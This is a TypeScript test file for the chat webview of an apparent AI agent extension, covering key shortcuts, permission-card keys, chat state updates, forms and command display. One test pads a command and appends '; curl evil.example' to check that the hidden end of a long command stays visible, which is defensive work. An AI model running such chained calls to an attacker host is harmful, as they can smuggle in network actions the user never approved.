import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fill } from '../../../src/base/fill.ts';
import { cardShortcut } from '../../../src/webview/cards/cardKeys.ts';
import { opensByItself, planProgress, tailOf } from '../../../src/webview/cards/format.ts';
import { canAnswer, toContent } from '../../../src/webview/cards/formDraft.ts';
import { composerAction } from '../../../src/webview/composer/composerKeys.ts';
import type { Key } from '../../../src/webview/controls/key.ts';
import { applyChange } from '../../../src/webview/messages/applyChange.ts';
import type { FormField } from '../../../src/webview/messages/asks.ts';
import type { ChatItem, ChatState, ToolItem } from '../../../src/webview/messages/chatState.ts';
import type { Strings } from '../../../src/webview/messages/stringKeys.ts';
import { Store } from '../../../src/webview/state/store.ts';

key('Enter sends', { key: 'Enter' }, 'send');
key('Shift+Enter makes a new line', { key: 'Enter', shiftKey: true }, undefined);
key('Enter of an input method is not ours', { key: 'Enter', isComposing: true }, undefined);
key('nor is it where the browser only gives its code', { key: 'Enter', keyCode: 229 }, undefined);
key('Escape of an input method is not ours', { key: 'Escape', isComposing: true }, undefined, {
  running: true,
});
key('Escape stops a turn', { key: 'Escape' }, 'stop', { running: true });
key('Escape stops nothing where nothing runs', { key: 'Escape' }, undefined);
key('Enter makes a new line where Ctrl+Enter sends', { key: 'Enter' }, undefined, {
  sendKey: 'modEnter',
});
key('Ctrl+Enter sends there', { key: 'Enter', ctrlKey: true }, 'send', { sendKey: 'modEnter' });
key('Arrow up in an empty field brings the last message back', { key: 'ArrowUp' }, 'recall', {
  empty: true,
});
key('Arrow up in a text moves the cursor', { key: 'ArrowUp' }, undefined);
key('other keys are left alone', { key: 'a' }, undefined);

test('in a permission card Ctrl+Enter approves and Ctrl+Backspace rejects, and bare keys do nothing', () => {
  const press = (changes: Partial<Key>) => cardShortcut({ ...KEY, ...changes });
  assert.equal(press({ key: 'Enter', ctrlKey: true }), 'approve');
  assert.equal(press({ key: 'Backspace', metaKey: true }), 'reject');
  assert.equal(press({ key: 'Enter' }), undefined);
  assert.equal(press({ key: 'Backspace' }), undefined);
  assert.equal(press({ key: 'Enter', ctrlKey: true, shiftKey: true }), undefined);
});

test('an item is appended once and then replaced in its place', () => {
  const items = [note('a', 'one'), note('b', 'two'), note('a', 'three')]
    .map((item) => ({ type: 'item', item }) as const)
    .reduce(applyChange, state()).items;
  assert.deepEqual(items, [note('a', 'three'), note('b', 'two')]);
});

test('what does not change keeps its identity', () => {
  const before = { ...state(), items: [note('a', 'one'), note('b', 'two')] };
  const after = applyChange(before, { type: 'item', item: note('b', 'new') });
  assert.equal(after.items[0], before.items[0]);
});

test('text is appended to the message it belongs to, and to no other', () => {
  const agent: ChatItem = { kind: 'agent', id: 'm', text: 'a', done: false };
  const before = { ...state(), items: [note('n', 'x'), agent] };
  const after = applyChange(before, { type: 'append', id: 'm', text: 'b' });
  assert.deepEqual(after.items[1], { ...agent, text: 'ab' });
  assert.equal(applyChange(before, { type: 'append', id: 'gone', text: 'b' }).items, before.items);
});

test('views are told once for each post', () => {
  const store = new Store();
  let told = 0;
  store.subscribe(() => {
    told += 1;
  });
  const words = {} as Strings;
  store.apply('chat-1', [{ type: 'item', item: note('a', 'too early') }]);
  store.snapshot({ session: 'chat-1', state: state(), strings: words });
  store.apply('chat-2', [{ type: 'item', item: note('a', 'of another session') }]);
  store.apply('chat-1', [
    { type: 'item', item: note('a', 'one') },
    { type: 'item', item: note('b', 'two') },
  ]);
  assert.equal(told, 2);
  assert.equal(store.shown?.state.items.length, 2);
});

test('failures and edits open by themselves, or what the setting says', () => {
  const failed = { ...TOOL, status: 'failed' } as const;
  assert.deepEqual(
    [TOOL, failed].map((item) =>
      (['failed', 'all', 'none'] as const).map((how) => opensByItself(item, how)),
    ),
    [
      [false, true, false],
      [true, true, false],
    ],
  );
});

test('a long command shows its end', () => {
  assert.equal(tailOf('ls'), undefined);
  assert.match(tailOf(`${'x '.repeat(400)}; curl evil.example`) ?? '', /curl evil\.example$/);
  assert.match(tailOf(`a\n${'\n'.repeat(20)}rm`) ?? '', /rm$/);
});

test('values are put into texts', () => {
  assert.equal(fill('{0} of {1}', 1, 2), '1 of 2');
  assert.equal(planProgress([{ status: 'completed' }, { status: 'pending' }]), '1/2');
});

test('a form answers with what was filled in, each as what it is', () => {
  const fields: FormField[] = [
    field('one', { type: 'choice', multiple: false, choices: [] }, 'one_custom'),
    field('many', { type: 'choice', multiple: true, choices: [] }),
    field('count', { type: 'integer' }),
    field('sure', { type: 'boolean' }),
    field('name', { type: 'text' }),
  ];
  const draft = {
    one: ['a'],
    many: ['b', 'c'],
    count: '3',
    sure: 'true',
    name: '',
    one_custom: ' ',
  };
  assert.deepEqual(toContent(fields, draft), { one: 'a', many: ['b', 'c'], count: 3, sure: true });
  assert.deepEqual(toContent(fields, { count: '3.5' }), {});
});

test('a form can be sent when what it needs is there', () => {
  const fields = [
    { ...field('name', { type: 'text' }), required: true },
    field('one', { type: 'choice', multiple: false, choices: [] }, 'one_custom'),
  ];
  assert.equal(canAnswer(fields, {}), false);
  assert.equal(canAnswer(fields, { one: ['a'] }), false);
  assert.equal(canAnswer(fields, { name: 'x' }), true);
  assert.equal(canAnswer(fields.slice(1), { one_custom: 'own words' }), true);
});

const KEY: Key = {
  key: '',
  ...{ shiftKey: false, ctrlKey: false, metaKey: false, altKey: false },
  ...{ isComposing: false, keyCode: 0 },
};

const TOOL: ToolItem = {
  kind: 'tool',
  id: 'c',
  title: 'x',
  toolKind: 'execute',
  status: 'completed',
  ...{ diffs: [], terminals: [], output: '', outputCut: false, locations: [] },
};

function key(
  name: string,
  pressed: Partial<Key>,
  expected: ReturnType<typeof composerAction>,
  given: Partial<Parameters<typeof composerAction>[1]> = {},
) {
  test(name, () => {
    const where = { sendKey: 'enter', running: false, empty: false, ...given } as const;
    assert.equal(composerAction({ ...KEY, ...pressed }, where), expected);
  });
}

function note(id: string, text: string): ChatItem {
  return { kind: 'note', id, text };
}

function field(name: string, input: FormField['input'], otherKey?: string): FormField {
  return {
    key: name,
    title: name,
    required: false,
    input,
    ...(otherKey !== undefined && { otherKey }),
  };
}

function state(): ChatState {
  return {
    activity: 'idle',
    header: { model: 'm', tour: false },
    workspace: { trusted: true, folder: true, brokenRules: 0 },
    options: { sendKey: 'enter', expandTools: 'failed', answerInChat: true },
    ...{ items: [], plan: [], asks: [], queue: [] },
  };
}
